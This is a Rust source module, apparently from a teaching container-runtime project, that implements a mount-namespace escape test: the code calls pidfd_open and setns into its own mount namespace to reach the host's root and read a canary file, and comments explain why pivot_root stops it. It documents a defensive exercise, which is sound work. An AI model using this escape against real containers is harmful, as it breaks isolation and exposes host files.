//! To the root of the mount namespace.
//!
//! A process has a root directory, and a mount namespace has one of its own. setns(2) into a mount namespace
//! gives the process the namespace's root, whatever its own was: so does setns into the one that it is in
//! already. `nsenter --mount --target $$` is the whole attack. As long as the runtime only changes the root
//! *directory*, the namespace's root is the host's.
//!
//! Chapter 3 stops it. pivot_root(2) exchanges the root of the namespace itself, and the old one is
//! unmounted. (Container engines that can't use pivot_root, because the host runs from an initramfs, move the
//! new root over the old one and then chroot: there the old root is still mounted below, and finding it is
//! this attack again.)

use nix::errno::Errno;
use nix::sched::{CloneFlags, setns};

use crate::arena::{self, Arena};
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};

pub const ATTACK: Attack = Attack {
    name: "old-root",
    title: "setns(2) into its own mount namespace, whose root is the host's",
    won: "read a host file from the mount namespace's root",
    harmless: "",
    end: End::Chapter(3),
    because: "pivot_root(2) exchanges the root of the mount namespace, and umount2(2) lets go of the old one",
    prepare: arena::nothing,
    attack,
    judge: Arena::brought_back,
};

fn attack(me: &Inside) -> Result<String, Stopped> {
    use std::os::fd::FromRawFd;
    // A process descriptor names the namespaces without a /proc, which chapter 1 does not have.
    // SAFETY: numbers are all that this call takes.
    let number = unsafe { libc::syscall(libc::SYS_pidfd_open, libc::getpid(), 0) };
    let number = Errno::result(number).at("pidfd_open(itself)")?;
    // SAFETY: the descriptor is new and nobody else's.
    let itself = unsafe { std::os::fd::OwnedFd::from_raw_fd(number as i32) };
    setns(&itself, CloneFlags::CLONE_NEWNS).at("setns(itself, CLONE_NEWNS)")?;
    me.read_canary()
}
